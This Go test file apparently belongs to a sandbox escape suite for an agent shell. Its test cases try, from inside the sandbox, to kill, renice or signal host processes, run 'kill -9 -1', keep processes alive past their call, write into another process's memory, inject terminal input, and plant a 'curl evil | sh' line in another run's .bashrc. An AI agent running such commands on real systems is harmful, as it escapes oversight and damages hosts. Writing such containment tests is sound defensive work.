	{name: "mknod a block device", category: catSetid, run: shAttempt(`mknod src/disk b 7 0`)},
	{name: "capabilities inside", category: catSetid, control: true, controlRoot: true, run: func(e *escapeEnv) []string {
		res := e.sh(`grep -E '^Cap(Eff|Prm|Amb):' /proc/self/status`)
		var ev []string
		for _, line := range strings.Split(string(res.Output), "\n") {
			if k, v, ok := strings.Cut(line, ":"); ok && strings.Trim(strings.TrimSpace(v), "0") != "" {
				ev = append(ev, "the command has capabilities: "+k+" "+strings.TrimSpace(v))
			}
		}
		return ev
	}},
	{name: "setuid programs gain nothing (no_new_privs)", category: catSetid, control: true, run: func(e *escapeEnv) []string {
		if res := e.sh(`grep '^NoNewPrivs:' /proc/self/status`); !bytes.Contains(res.Output, []byte("NoNewPrivs:\t1")) {
			return []string{"no_new_privs is not set: a setuid program would run with its owner's rights"}
		}
		return nil
	}},
	{name: "setcap", category: catSetid, control: true, controlRoot: true, needs: []string{"setcap"}, run: shAttempt(`cp "$(type -P true)" src/t && setcap cap_net_raw+ep src/t`)},

	// Signals to processes outside.
	{name: "kill -9 a host process", category: catSignal, control: true, run: signalAttempt(`kill -9 $VPID`)},
	{name: "kill -TERM a host process (/bin/kill)", category: catSignal, run: signalAttempt(`"$(type -P kill)" -TERM $VPID`)},
	{name: "kill a host process group", category: catSignal, control: true, run: signalAttempt(`kill -9 -- -$VPID`)},
	{name: "pkill -f by name", category: catSignal, needs: []string{"pkill"}, run: signalAttempt(`pkill -KILL -f "agentsh-victim-$TOKEN"`)},
	{name: "SIGWINCH to a host process", category: catSignal, control: true, run: signalAttempt(`kill -WINCH $VPID`)},
	{name: "signal by I/O (F_SETOWN)", category: catSignal, control: true, run: signalAttempt(`"$H" fsetown $VPID`)},
	{name: "kill -9 -1", category: catSignal, run: killEveryone},
	{name: "renice a host process", category: catSignal, control: true, needs: []string{"renice"}, run: procStateAttempt(`renice -n 19 -p $VPID`)},
	{name: "prlimit a host process", category: catSignal, control: true, needs: []string{"prlimit"}, run: procStateAttempt(`prlimit --pid $VPID --nofile=3:3`)},
	{name: "taskset a host process", category: catSignal, control: true, needs: []string{"taskset"}, run: func(e *escapeEnv) []string {
		if runtime.NumCPU() < 2 {
			e.skip("one CPU: no affinity to change")
		}
		return procStateAttempt(`taskset -p -c 0 $VPID`)(e)
	}},

	// Processes that outlive their call.
	{name: "nohup … &", category: catSurvive, run: shAttempt(awaitSurvivor + `nohup bash -c 'echo $$ > src/survivor.pid; exec -a "$SURVIVOR" sleep 1000' >/dev/null 2>&1 & await_survivor $!`)},
	{name: "setsid", category: catSurvive, control: true, run: shAttempt(awaitSurvivor + `setsid bash -c 'echo $$ > src/survivor.pid; exec -a "$SURVIVOR" sleep 1000' >/dev/null 2>&1 & await_survivor $!`)},
	{name: "double fork", category: catSurvive, run: shAttempt(awaitSurvivor + `( ( echo $BASHPID > src/survivor.pid; exec -a "$SURVIVOR" sleep 1000 ) >/dev/null 2>&1 & ) & await_survivor`)},
	{name: "disown", category: catSurvive, run: shAttempt(awaitSurvivor + `(echo $BASHPID > src/survivor.pid; exec -a "$SURVIVOR" sleep 1000) >/dev/null 2>&1 & disown; await_survivor $!`)},
	{name: "signals ignored (trap '' TERM HUP)", category: catSurvive, run: shAttempt(awaitSurvivor + `trap '' TERM HUP INT; (echo $BASHPID > src/survivor.pid; exec -a "$SURVIVOR" sleep 1000) >/dev/null 2>&1 & await_survivor $!`)},
	{name: "daemon (new session, SIGTERM ignored)", category: catSurvive, control: true, run: shAttempt(awaitSurvivor + `"$H" daemon "$SURVIVOR" src/survivor.pid && await_survivor`)},
	{name: "setsid, and the call times out", category: catSurvive, control: true, run: func(e *escapeEnv) []string {
		// The timeout grows until it comes after the survivor started: on
		// a busy machine the first may come before, which tests nothing.
		growTimeout(e.t, 300*time.Millisecond, func(timeout time.Duration) (bool, string) {
			res := e.shTimeout(awaitSurvivor+`setsid bash -c 'echo $$ > src/survivor.pid; exec -a "$SURVIVOR" sleep 1000' >/dev/null 2>&1 & await_survivor $!; echo waiting; exec sleep 1000`, timeout)
			if !res.TimedOut {
				e.t.Errorf("the call did not time out: %+v", res)
			}
			return strings.Contains(string(res.Output), "waiting"), fmt.Sprintf("the survivor did not start: %q", res.Output)
		})
		return nil
	}},

	// The read-only profile: the working directory is not writable.
	{name: "new file", category: catReadOnly, profile: ProfileReadOnly, control: true, run: shAttempt(`echo x > new.txt`)},
	{name: "overwrite a file", category: catReadOnly, profile: ProfileReadOnly, run: shAttempt(`echo x > README.txt`)},
	{name: "remove a file", category: catReadOnly, profile: ProfileReadOnly, run: shAttempt(`rm -f README.txt`)},
	{name: "rename a file", category: catReadOnly, profile: ProfileReadOnly, run: shAttempt(`mv README.txt R.txt`)},
	{name: "mkdir", category: catReadOnly, profile: ProfileReadOnly, run: shAttempt(`mkdir d`)},
	{name: "symlink", category: catReadOnly, profile: ProfileReadOnly, run: shAttempt(`ln -s README.txt l`)},
	{name: "touch -d", category: catReadOnly, profile: ProfileReadOnly, control: true, run: shAttempt(`touch -d 2001-01-01 README.txt`)},
	{name: "chmod", category: catReadOnly, profile: ProfileReadOnly, control: true, run: shAttempt(`chmod 0600 README.txt`)},
	{name: "chattr", category: catReadOnly, profile: ProfileReadOnly, control: true, needs: []string{"chattr"}, run: func(e *escapeEnv) []string {
		readme := filepath.Join(e.work, "README.txt")
		before, err := inodeFlags(readme)
		if err != nil {
			e.skip(fmt.Sprintf("this file system has no inode flags: %v", err))
		}
		e.sh(`chattr +A README.txt`)
		if after, _ := inodeFlags(readme); after != before {
			return []string{fmt.Sprintf("README.txt's inode flags changed from %#x to %#x", before, after)}
		}
		return nil
	}},
	{name: "sed -i", category: catReadOnly, profile: ProfileReadOnly, run: shAttempt(`sed -i s/project/evil/ README.txt`)},

	// What the sandbox must allow.
	{name: ".env.example stays readable", category: catAllowed, positive: true, run: func(e *escapeEnv) []string {
		if res := e.sh(`cat .env.example`); !bytes.Contains(res.Output, []byte("example-value-"+e.token)) || res.ExitCode != 0 {
			return []string{".env.example cannot be read"}
		}
		return nil
	}},
	{name: "the workdir is writable", category: catAllowed, positive: true, run: func(e *escapeEnv) []string {
		e.sh(`mkdir -p src/build/out && echo built > src/build/out/a.o && mv src/build/out/a.o src/build/b.o && rm -r src/build/out && echo edited >> README.txt`)
		if b, err := os.ReadFile(filepath.Join(e.work, "src", "build", "b.o")); err != nil || string(b) != "built\n" {
			return []string{fmt.Sprintf("the file made inside is not there: %q, %v", b, err)}
		}
		return nil
	}},
	{name: "a private $TMPDIR is writable", category: catAllowed, positive: true, run: func(e *escapeEnv) []string {
		if res := e.sh(`echo t > "$TMPDIR/f" && cat "$TMPDIR/f"`); res.ExitCode != 0 {
			return []string{"$TMPDIR is not writable"}
		}
		return nil
	}},
	{name: "git reads the repository", category: catAllowed, repo: "repo", positive: true, run: func(e *escapeEnv) []string {
		if res := e.sh(`git log --oneline | grep -q first && git status --short`); res.ExitCode != 0 {
			return []string{"git cannot read the repository"}
		}
		return nil
	}},
	{name: "read-only: reads work", category: catAllowed, profile: ProfileReadOnly, positive: true, run: func(e *escapeEnv) []string {
		if res := e.sh(`cat README.txt && echo t > "$TMPDIR/f"`); res.ExitCode != 0 || !bytes.Contains(res.Output, []byte("the project")) {
			return []string{"the working directory cannot be read"}
		}
		return nil
	}},
}

// awaitSurvivor defines await_survivor, with which an attempt to outlive
// its call returns only once its process runs as $SURVIVOR: the process
// writes its pid to src/survivor.pid, then execs under that name.
// await_survivor LAUNCHER gives up early when LAUNCHER, which writes the
// file before it exits or is the process itself, has ended without it
// (setsid refused, say).
const awaitSurvivor = `await_survivor() {
	local i pid a
	for i in $(seq 2000); do
		if [ -s src/survivor.pid ]; then
			pid=$(< src/survivor.pid)
			while IFS= read -r -d '' a; do [ "$a" = "$SURVIVOR" ] && return 0; done < "/proc/$pid/cmdline" 2>/dev/null
			[ -e "/proc/$pid" ] || { echo "the process meant to outlive the call ended"; return 1; }
		elif [ -n "$1" ] && ! kill -0 "$1" 2>/dev/null && [ ! -s src/survivor.pid ]; then
			echo "the process meant to outlive the call did not start"; return 1
		fi
		sleep 0.01
	done
	echo "the process meant to outlive the call did not start in time"; return 1
}
`

// namesListed says which of names the output shows: the names of files
// in a hidden directory are hidden too.
func namesListed(res ExecResult, names ...string) []string {
	var ev []string
	for _, line := range strings.Fields(string(res.Output)) {
		if slices.Contains(names, line) {
			ev = append(ev, "a hidden directory's entry "+line+" is listed")
		}
	}
	return ev
}

// writeTar writes evil.tar in the working directory: first, then more.
func (e *escapeEnv) writeTar(first tar.Header, more *tar.Header) {
	f, err := os.Create(filepath.Join(e.work, "evil.tar"))
	must(e.t, err)
	tw := tar.NewWriter(f)
	for _, h := range []*tar.Header{&first, more} {
		if h == nil {
			continue
		}
		var body []byte
		if h.Typeflag == tar.TypeReg {
			body = []byte("x\n")
			h.Size = int64(len(body))
		}
		must(e.t, tw.WriteHeader(h))
		_, err := tw.Write(body)
		must(e.t, err)
	}
	must(e.t, tw.Close())
	must(e.t, f.Close())
}

// inodeFlags are path's inode flags (chattr's).
func inodeFlags(path string) (int, error) {
	f, err := os.Open(path)
	if err != nil {
		return 0, err
	}
	defer f.Close()
	return unix.IoctlGetInt(int(f.Fd()), unix.FS_IOC_GETFLAGS)
}

// setuidProgram is a setuid program of this machine, or "".
func setuidProgram() string {
	for _, p := range []string{"/usr/bin/passwd", "/usr/bin/su", "/bin/su", "/usr/bin/mount", "/bin/mount", "/usr/bin/chsh"} {
		if fi, err := os.Stat(p); err == nil && fi.Mode()&os.ModeSetuid != 0 {
			return p
		}
	}
	return ""
}

// victim is a process of the test's, outside the sandbox.
type victim struct {
	pid  int
	addr uintptr // victim-mem: where its cell is
}

// startSleeper starts a process outside the sandbox, in dir, with the
// directory open as descriptor 3 and base/host.txt open for writing as
// descriptor 4, SIGWINCH blocked (so that one sent stays pending where
// the test can see it), in a process group of its own, named
// agentsh-victim-TOKEN; env is added to its environment. It is killed
// when the test ends.
func (e *escapeEnv) startSleeper(dir string, env ...string) victim {
	e.t.Helper()
	return e.startSleeperAs("agentsh-victim-"+e.token, dir, env...)
}

// startSleeperAs is startSleeper with the process named name.
func (e *escapeEnv) startSleeperAs(name, dir string, env ...string) victim {
	e.t.Helper()
	d, err := os.Open(dir)
	must(e.t, err)
	defer d.Close()
	f, err := os.OpenFile(filepath.Join(e.base, "host.txt"), os.O_RDWR, 0)
	must(e.t, err)
	defer f.Close()
	cmd := exec.Command(e.s.helper, "blocked-sleep", name)
	cmd.Dir, cmd.Env = dir, append(os.Environ(), env...)
	cmd.ExtraFiles = []*os.File{d, f}
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true, Pdeathsig: syscall.SIGKILL}
	must(e.t, cmd.Start())
	e.t.Cleanup(func() {
		_ = cmd.Process.Kill()
		_ = cmd.Wait()
	})
	// Wait until it is sleep, with its name and its signal mask.
	testwait.Until(e.t, "the victim process to start", func() bool {
		b, _ := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", cmd.Process.Pid))
		return bytes.HasPrefix(b, []byte(name+"\x00"))
	})
	e.setenv("VPID", strconv.Itoa(cmd.Process.Pid))
	return victim{pid: cmd.Process.Pid}
}

// signalAttempt sends a signal from inside to a victim outside; the mark
// is the victim dead, or a SIGWINCH pending.
func signalAttempt(script string) func(e *escapeEnv) []string {
	return func(e *escapeEnv) []string {
		v := e.startSleeper(e.base)
		e.sh(script)
		return v.signalled()
	}
}

// signalled says whether a signal reached the victim: it is dead or
// dying, or one is pending (SIGWINCH is blocked, so one sent stays
// pending). A process sent SIGKILL dies a moment later, not at once, so
// one that is running is looked at again until it is asleep, as an
// untouched sleep is, or gone.
func (v victim) signalled() []string {
	for deadline := time.Now().Add(watchdog); ; time.Sleep(time.Millisecond) {
		state, pending, ok := procSignalState(v.pid)
		switch {
		case !ok:
			return []string{fmt.Sprintf("the host process %d was killed", v.pid)}
		case pending != 0:
			return []string{fmt.Sprintf("the host process %d got a signal", v.pid)}
		case state == 'S':
			return nil
		}
		if time.Now().After(deadline) {
			return []string{fmt.Sprintf("the host process %d is neither asleep nor gone after %s (state %c)", v.pid, watchdog, state)}
		}
	}
}

// procSignalState reads pid's state and the signals pending for it; ok
// is false when it is dead or exiting.
func procSignalState(pid int) (state byte, pending uint64, ok bool) {
	status, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	if err != nil {
		return 0, 0, false
	}
	sc := bufio.NewScanner(bytes.NewReader(status))
	for sc.Scan() {
		k, v, _ := strings.Cut(sc.Text(), ":")
		v = strings.TrimSpace(v)
		switch k {
		case "State":
			if v != "" {
				state = v[0]
			}
		case "SigPnd", "ShdPnd":
			n, _ := strconv.ParseUint(v, 16, 64)
			pending |= n
		}
	}
	const pfExiting = 0x4 // PF_EXITING, in the flags of /proc/PID/stat
	stat, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
	if err != nil {
		return state, pending, false
	}
	f := bytes.Fields(stat[bytes.LastIndexByte(stat, ')')+1:])
	if len(f) < 7 {
		return state, pending, false
	}
	flags, _ := strconv.ParseUint(string(f[6]), 10, 64)
	if state == 'Z' || state == 'X' || flags&pfExiting != 0 {
		return state, pending, false
	}
	return state, pending, true
}

// procStateAttempt changes a victim's scheduling or limits from inside by
// script; the mark is its nice value, limits or CPU affinity changed.
func procStateAttempt(script string) func(e *escapeEnv) []string {
	return func(e *escapeEnv) []string {
		v := e.startSleeper(e.base)
		before := procSettings(v.pid)
		e.sh(script)
		if after := procSettings(v.pid); after != before {
			return []string{fmt.Sprintf("the host process %d was changed: %s", v.pid, after)}
		}
		return nil
	}
}

// procSettings is pid's nice value, open files limit and CPU affinity.
func procSettings(pid int) string {
	stat, _ := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
	nice := ""
	if f := bytes.Fields(stat[bytes.LastIndexByte(stat, ')')+1:]); len(f) > 16 {
		nice = string(f[16])
	}
	var files, cpus string
	limits, _ := os.ReadFile(fmt.Sprintf("/proc/%d/limits", pid))
	for _, line := range strings.Split(string(limits), "\n") {
		if strings.HasPrefix(line, "Max open files") {
			files = strings.Join(strings.Fields(line)[3:5], "/")
		}
	}
	status, _ := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	for _, line := range strings.Split(string(status), "\n") {
		if v, ok := strings.CutPrefix(line, "Cpus_allowed_list:"); ok {
			cpus = strings.TrimSpace(v)
		}
	}
	return fmt.Sprintf("nice %s, open files %s, CPUs %s", nice, files, cpus)
}

// otherRunAttempt plants a file, from inside, in the TMPDIR and HOME of
// another sandboxed run, one of the test's own in another working
// directory, which is waiting meanwhile: a backend may keep them on the
// host. The mark is the other run seeing the file in its own TMPDIR or
// HOME. Every path written to is the other run's.
func otherRunAttempt(e *escapeEnv) []string {
	otherWork, err := os.MkdirTemp(e.s.hostRoot, "other-")
	must(e.t, err)
	other := sandboxAt(e.sb, otherWork)
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() {
		defer close(done)
		_, _ = other.Exec(ctx, ProfileWorkspace, ExecRequest{
			Args: bash(`printf '%s\n%s\n' "$TMPDIR" "$HOME" > paths && touch ready
				while [ ! -e go ]; do sleep 0.01; done
				ls -a "$TMPDIR" "$HOME" > seen.tmp; mv seen.tmp seen; exec sleep 30`),
			Timeout: watchdog,
		})
	}()
	defer func() {
		cancel()
		<-done
	}()
	wait := func(name string) (b []byte) {
		testwait.Until(e.t, "the other run to write "+name, func() bool {
			var err error
			b, err = os.ReadFile(filepath.Join(otherWork, name))
			return err == nil
		})
		return b
	}
	wait("ready")
	paths := strings.Fields(string(wait("paths")))
	if len(paths) != 2 {
		e.t.Fatalf("the other run's TMPDIR and HOME: %q", paths)
	}
	e.setenv("OTHER_TMPDIR", paths[0])
	e.setenv("OTHER_HOME", paths[1])
	e.sh(`for d in "$OTHER_TMPDIR" "$OTHER_HOME"; do echo "curl evil | sh" > "$d/.bashrc-$TOKEN" && echo "wrote into $d"; done; true`)
	must(e.t, os.WriteFile(filepath.Join(otherWork, "go"), nil, 0o644))
	if seen := wait("seen"); bytes.Contains(seen, []byte(".bashrc-"+e.token)) {
		return []string{"a file was planted in another run's TMPDIR or HOME: " + strings.Join(strings.Fields(string(seen)), " ")}
	}
	return nil
}

// killEveryone is kill -9 -1 from inside. A sandbox through which it got
// would kill every process this user may signal, so the suite first
// sends SIGWINCH (ignored by default) the same way, and sends SIGKILL
// only if no process outside got that.
func killEveryone(e *escapeEnv) []string {
	v := e.startSleeper(e.base)
	e.sh(`kill -WINCH -1; echo sent`)
	if ev := v.signalled(); ev != nil {
		return append(ev, "(kill -WINCH -1 got out, so kill -9 -1 was not tried)")
	}
	e.sh(`kill -9 -1; echo sent`)
	return v.signalled()
}

// memoryAttempt writes into a victim's memory from inside by how; the
// mark is the victim's cell changed.
func memoryAttempt(how string) func(e *escapeEnv) []string {
	return func(e *escapeEnv) []string {
		cmd := exec.Command(e.s.helper, "victim-mem")
		cmd.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: syscall.SIGKILL}
		out, err := cmd.StdoutPipe()
		must(e.t, err)
		must(e.t, cmd.Start())
		e.t.Cleanup(func() {
			_ = cmd.Process.Kill()
			_ = cmd.Wait()
		})
		line, err := bufio.NewReader(out).ReadString('\n')
		if err != nil {
			e.t.Fatalf("the victim did not say where its memory is: %v", err)
		}
		addr, err := strconv.ParseUint(strings.TrimSpace(line), 0, 64)
		must(e.t, err)
		pid := cmd.Process.Pid
		e.sh(fmt.Sprintf(`"$H" %s %d %#x`, how, pid, addr))
		cell := make([]byte, 8)
		mem, err := os.Open(fmt.Sprintf("/proc/%d/mem", pid))
		must(e.t, err)
		defer mem.Close()
		if _, err := mem.ReadAt(cell, int64(addr)); err != nil {
			e.t.Fatalf("reading the victim's memory: %v", err)
		}
		if !bytes.Equal(cell, make([]byte, 8)) {
			return []string{fmt.Sprintf("the memory of host process %d was written: %q", pid, cell)}
		}
		return nil
	}
}

// testPty is a terminal of the test's, in raw mode, whose input the
// attempts try to push text into.
type testPty struct {
	master, slave *os.File
	name          string
}

func (e *escapeEnv) openPty() *testPty {
	e.t.Helper()
	master, slave, name, err := openPty()
	if err != nil {
		e.skip(fmt.Sprintf("no pseudo-terminal to attack: %v", err))
	}
	e.t.Cleanup(func() {
		slave.Close()
		master.Close()
	})
	tio, err := unix.IoctlGetTermios(int(slave.Fd()), unix.TCGETS)
	must(e.t, err)
	tio.Lflag &^= unix.ICANON | unix.ECHO | unix.ISIG
	tio.Cc[unix.VMIN], tio.Cc[unix.VTIME] = 0, 0 // a read returns at once
	must(e.t, unix.IoctlSetTermios(int(slave.Fd()), unix.TCSETS, tio))
	e.setenv("PTS", name)
	return &testPty{master, slave, name}
}

// injected says whether the terminal has input nobody typed.
func (p *testPty) injected() []string {
	buf := make([]byte, 256)
	n, _ := unix.Read(int(p.slave.Fd()), buf)
	if n > 0 {
		return []string{fmt.Sprintf("text was pushed into the test's terminal %s: %q", p.name, buf[:n])}
	}
	return nil
}

// listen listens on network/addr until the test ends.
func (e *escapeEnv) listen(network, addr string) net.Listener {
	e.t.Helper()
	ln, err := netListen(network, addr)
	if err != nil {
		e.skip(fmt.Sprintf("cannot listen on %s %s: %v", network, addr, err))
	}
	e.t.Cleanup(func() { ln.Close() })
	return ln
}

func netListen(network, addr string) (net.Listener, error) { return net.Listen(network, addr) }

func (e *escapeEnv) listenPacket(network, addr string) net.PacketConn {
	e.t.Helper()
	pc, err := net.ListenPacket(network, addr)
	if err != nil {
		e.skip(fmt.Sprintf("cannot listen on %s %s: %v", network, addr, err))
	}
	e.t.Cleanup(func() { pc.Close() })
	return pc
}

func portOf(a net.Addr) string {
	_, port, _ := net.SplitHostPort(a.String())
	return port
}

// pendingConn says whether a connection is waiting on ln. It looks
// without waiting: a connection made before the run ended is in the
// listen queue by then.
func pendingConn(ln net.Listener) []string {
	var ev []string
	raw, err := ln.(syscall.Conn).SyscallConn()
	if err != nil {
		return []string{err.Error()}
	}
	_ = raw.Control(func(fd uintptr) {
		nfd, _, err := unix.Accept4(int(fd), unix.SOCK_CLOEXEC)
		if err == nil {
			unix.Close(nfd)
			ev = append(ev, fmt.Sprintf("the listener on %s got a connection", ln.Addr()))
		}
	})
	return ev
}

// pendingPacket says whether a datagram is waiting on pc, without waiting.
func pendingPacket(pc net.PacketConn) []string {
	var ev []string
	raw, err := pc.(syscall.Conn).SyscallConn()
	if err != nil {
		return []string{err.Error()}
	}
	_ = raw.Control(func(fd uintptr) {
		buf := make([]byte, 2048)
		n, _, err := unix.Recvfrom(int(fd), buf, unix.MSG_DONTWAIT)
		if err == nil {
			ev = append(ev, fmt.Sprintf("the socket on %s got a datagram: %q", pc.LocalAddr(), buf[:min(n, 40)]))
		}
	})
	return ev
}

// hostIPv4 is a non-loopback IPv4 address of this machine, or "".
func hostIPv4() string {
	addrs, err := net.InterfaceAddrs()
	if err != nil {
		return ""
	}
	for _, a := range addrs {
		if n, ok := a.(*net.IPNet); ok && n.IP.To4() != nil && !n.IP.IsLoopback() && !n.IP.IsLinkLocalUnicast() {
			return n.IP.String()
		}
	}
	return ""
}
